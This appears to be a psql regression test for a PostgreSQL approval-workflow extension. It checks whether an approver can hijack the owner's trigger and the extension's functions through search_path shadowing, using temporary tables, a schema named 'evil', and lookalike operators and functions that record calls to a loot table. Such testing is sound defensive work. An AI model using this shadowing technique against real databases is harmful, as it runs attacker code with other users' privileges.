-- Attack: the approver or the author puts objects in the way, which the owner's triggers or the extension would use in place of their own.
\set SHOW_CONTEXT never
GRANT CREATE ON SCHEMA public TO erp_owner;
CREATE ROLE attack_shadow_eve LOGIN;
CREATE ROLE attack_shadow_approvers;
GRANT attack_shadow_approvers TO attack_shadow_eve, bob;
GRANT CREATE, TEMP ON DATABASE :"DBNAME" TO attack_shadow_eve;
GRANT SELECT, UPDATE ON customers TO attack_shadow_eve;
-- The owner's trigger names nothing with its schema.
\c - erp_owner
CREATE TABLE journal (what text, amount numeric);
GRANT INSERT ON journal TO alice, attack_shadow_eve;
CREATE FUNCTION fee(amount numeric) RETURNS numeric LANGUAGE sql AS $$ SELECT amount / 100 $$;
CREATE FUNCTION keep_journal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF new.credit_limit <> old.credit_limit THEN
        INSERT INTO journal SELECT upper(new.name), fee(new.credit_limit);
    END IF;
    RETURN NULL;
END
$$;
CREATE TRIGGER keep_journal AFTER UPDATE ON customers FOR EACH ROW EXECUTE FUNCTION keep_journal();
SELECT customer_workflow.protect('customers', '{credit_limit}', 'attack_shadow_approvers');

-- Eve, an approver: temporary tables, a schema of hers, operators and functions that suit better than the system's own
\c - attack_shadow_eve
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.loot (who name, what text);
GRANT INSERT ON evil.loot TO PUBLIC;
CREATE FUNCTION evil.steal(what text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN INSERT INTO evil.loot VALUES (current_user, what); RETURN what; END $$;
CREATE FUNCTION evil.take() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('trigger of a temporary table'); RETURN new; END $$;
CREATE FUNCTION evil.fee(amount numeric) RETURNS numeric LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('fee'); RETURN 0; END $$;
CREATE FUNCTION evil.upper(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN evil.steal('upper'); END $$;
CREATE FUNCTION evil.not_equal(numeric, numeric) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('<>'); RETURN true; END $$;
CREATE OPERATOR evil.<> (LEFTARG = numeric, RIGHTARG = numeric, FUNCTION = evil.not_equal);
CREATE FUNCTION evil.equal(text, text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('='); RETURN true; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.equal);
CREATE FUNCTION evil.any_equal(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('= of numbers'); RETURN true; END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.any_equal);
CREATE FUNCTION evil.mixed_equal(bigint, int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('= of mixed numbers'); RETURN true; END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = int, FUNCTION = evil.mixed_equal);
CREATE FUNCTION evil.concat(text, text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN evil.steal('||'); END $$;
CREATE OPERATOR evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.concat);
CREATE FUNCTION evil.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS $$ BEGIN PERFORM evil.steal('unnest'); END $$;
CREATE FUNCTION evil.jsonb_typeof(jsonb) RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN evil.steal('jsonb_typeof'); END $$;
CREATE TABLE evil.pg_roles (oid oid, rolname name, rolsuper boolean);
CREATE TABLE evil.pg_class (oid oid, relowner oid, relname name);
CREATE TEMP TABLE journal (what text, amount numeric);
CREATE TRIGGER take BEFORE INSERT ON journal FOR EACH ROW EXECUTE FUNCTION evil.take();
CREATE TEMP TABLE customers (id bigint, credit_limit numeric);
CREATE TEMP TABLE protected_table (id int);
CREATE TEMP TABLE pg_constraint (oid oid);
GRANT ALL ON pg_temp.journal, pg_temp.customers TO PUBLIC;
SET search_path = pg_temp, evil, pg_catalog, public;

-- Her own UPDATE uses what she wants, with her own rights. Then she takes part in everything that others do in her session's name.
UPDATE public.customers SET credit_limit = 5000 WHERE id OPERATOR(pg_catalog.=) 1;
UPDATE public.customers SET credit_limit = 5001 WHERE id OPERATOR(pg_catalog.=) 1;
SELECT customer_workflow.propose('public.customers', '{"id": 2}', '{"credit_limit": 5000}') OPERATOR(pg_catalog.>) 0 AS proposed;
SELECT customer_workflow.last_proposals() OPERATOR(pg_catalog.>) 0;
SELECT customer_workflow.submit(id) FROM customer_workflow.proposals;
SELECT customer_workflow.check_proposal(id) FROM customer_workflow.proposals;
SELECT pg_catalog.count(*) FROM customer_workflow.proposed_changes;
SELECT pg_catalog.count(*) FROM customer_workflow.pending_changes('public.customers', '{"{\"id\": 1}"}');
SELECT customer_workflow.review(id) IS NULL FROM customer_workflow.proposals;
SELECT customer_workflow.record_key('public.customers', '{"id": 1}'::jsonb);
SELECT customer_workflow.discard_change(id, 'credit_limit') FROM customer_workflow.proposals WHERE record_key OPERATOR(pg_catalog.=) '{"id": 2}';
SELECT customer_workflow.act_as('eve');
DELETE FROM evil.loot WHERE who OPERATOR(pg_catalog.=) 'attack_shadow_eve'::name;

-- She approves what Alice has proposed.
\c - alice
UPDATE customers SET credit_limit = 7000 WHERE id = 2;
SELECT customer_workflow.submit(id) FROM customer_workflow.proposals WHERE status = 'not_submitted';
\c - attack_shadow_eve
CREATE TEMP TABLE journal (what text, amount numeric);
CREATE TRIGGER take BEFORE INSERT ON journal FOR EACH ROW EXECUTE FUNCTION evil.take();
GRANT ALL ON pg_temp.journal TO PUBLIC;
SET search_path = pg_temp, evil, pg_catalog, public;
SELECT customer_workflow.approve(proposal) FROM customer_workflow.my_work_items;
SELECT * FROM pg_temp.journal;
\c - postgres
SELECT * FROM evil.loot WHERE who <> 'attack_shadow_eve';
SELECT * FROM journal;
SELECT id, credit_limit FROM customers ORDER BY id;

SET client_min_messages = warning;
DROP OWNED BY attack_shadow_eve CASCADE;
DROP ROLE attack_shadow_eve, attack_shadow_approvers;
